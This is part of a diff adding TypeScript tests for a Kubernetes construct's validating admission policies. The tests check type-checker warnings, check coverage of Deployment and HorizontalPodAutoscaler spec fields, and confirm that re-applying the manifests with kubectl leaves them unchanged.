+  const policies = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies';
+
+  /** What the API server's type checker says of a policy. */
+  const warningsOf = async (name: string): Promise<readonly string[]> => {
+    let warnings: readonly { warning: string }[] = [];
+    await waitFor(`policy ${name} to be checked`, async () => {
+      const { status, metadata } = (await asAdministrator({ method: 'GET', path: `${policies}/${name}` })).body;
+      warnings = status.typeChecking?.expressionWarnings ?? [];
+      return status.observedGeneration === metadata.generation;
+    });
+    return warnings.map(({ warning }) => warning);
+  };
+
+  /** Those of a policy that has one of the fences alone; a policy for every resource is not checked against types. */
+  const warningsOfFence = async (index: number, name: string, change = (expression: string) => expression) => {
+    const { body: policy } = await asAdministrator({ method: 'GET', path: `${policies}/${FENCE}` });
+    const { apiGroup, version, resource } = fences[index]!;
+    const rule = { apiGroups: [apiGroup], apiVersions: [version], resources: [resource], operations: ['UPDATE'] };
+    const expressionOf = (variable: string) =>
+      policy.spec.variables.find(({ name: known }: { name: string }) => known === variable).expression as string;
+    // What a variable says is not checked: it has to stand in the validation.
+    const spec = {
+      matchConstraints: { resourceRules: [rule] },
+      variables: [{ name: 'what', expression: expressionOf('what') }],
+      validations: [{ expression: change(expressionOf(`fence${index}`)) }],
+    };
+    const made = await asAdministrator({ method: 'POST', path: policies, body: { metadata: { name }, spec } });
+    expect(refusalOf(made)).toBeUndefined();
+    return warningsOf(name);
+  };
+
+  test('have no warning of the type checker', async () => {
+    expect(await warningsOf(FENCE)).toEqual([]);
+    // Subresources are not checked.
+    const whole = fences.map((_, index) => index).filter((index) => !fences[index]!.resource.includes('/'));
+    expect(whole.map((index) => fences[index]!.resource)).toEqual(['deployments', 'horizontalpodautoscalers']);
+    for (const index of whole) {
+      expect(await warningsOfFence(index, `typed-${index}`)).toEqual([]);
+    }
+  });
+
+  test('would have one if a field were misspelt', async () => {
+    const warnings = await warningsOfFence(0, 'misspelt', (expression) =>
+      expression.replace('object.spec.?paused', 'object.spec.?pause'),
+    );
+    expect(warnings).toEqual([expect.stringContaining("undefined field 'pause'")]);
+  });
+
+  test('speak of every field that there is', async () => {
+    const schemas = async (group: string) =>
+      (await asAdministrator({ method: 'GET', path: `/openapi/v3/apis/${group}` })).body.components.schemas;
+    const [apps, autoscaling] = [await schemas('apps/v1'), await schemas('autoscaling/v2')];
+    const fields = (schema: { properties: object }) => Object.keys(schema.properties);
+    const expressionsOf = (resource: string) => fences.find((fence) => fence.resource === resource)!.expressions;
+    const [forDeployments, forAutoscalers] = ['deployments', 'horizontalpodautoscalers'].map(expressionsOf);
+    const silentAbout = (path: string, names: readonly string[], expressions: readonly string[]) =>
+      names.filter((name) => !expressions.some((text) => text.includes(`object.${path}.?${name}`)));
+
+    const metadata = fields(apps['io.k8s.apimachinery.pkg.apis.meta.v1.ObjectMeta']).filter(
+      (name) => !OF_THE_API_SERVER.includes(name),
+    );
+    expect(metadata.sort()).toEqual(['annotations', ...METADATA].sort());
+    expect(silentAbout('metadata', metadata, forDeployments!)).toEqual([]);
+    expect(silentAbout('metadata', metadata, forAutoscalers!)).toEqual([]);
+    expect(silentAbout('spec.template.metadata', [...metadata, 'name', 'namespace'], forDeployments!)).toEqual([]);
+    expect(fields(apps['io.k8s.api.core.v1.PodTemplateSpec']).sort()).toEqual(['metadata', 'spec']);
+    const deployment = fields(apps['io.k8s.api.apps.v1.DeploymentSpec']).filter((name) => name !== 'template');
+    expect(silentAbout('spec', deployment, forDeployments!)).toEqual([]);
+    const autoscaler = fields(autoscaling['io.k8s.api.autoscaling.v2.HorizontalPodAutoscalerSpec']);
+    expect(silentAbout('spec', autoscaler, forAutoscalers!)).toEqual([]);
+    // A control: a field that a later version adds would be found.
+    expect(silentAbout('spec', [...deployment, 'later'], forDeployments!)).toEqual(['later']);
+  });
+});
+
+test('what the construct makes is unchanged when it is applied again', async () => {
+  const { code, stdout, stderr } = await kubernetes.kubectl('apply', '--filename', deployed.manifests);
+  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
+  const lines = stdout.split('\n').filter(Boolean);
+  expect(lines).toEqual(
+    expect.arrayContaining([
+      expect.stringMatching(/^customresourcedefinition.* unchanged$/),
+      expect.stringMatching(/^validatingadmissionpolicy\..* unchanged$/),
+      expect.stringMatching(/^validatingadmissionpolicybinding.* unchanged$/),
+    ]),
+  );
+  const changed = lines.filter((line) => !line.endsWith(' unchanged'));
+  expect(changed.filter((line) => !line.startsWith(ALWAYS_SENT))).toEqual([]);
+});
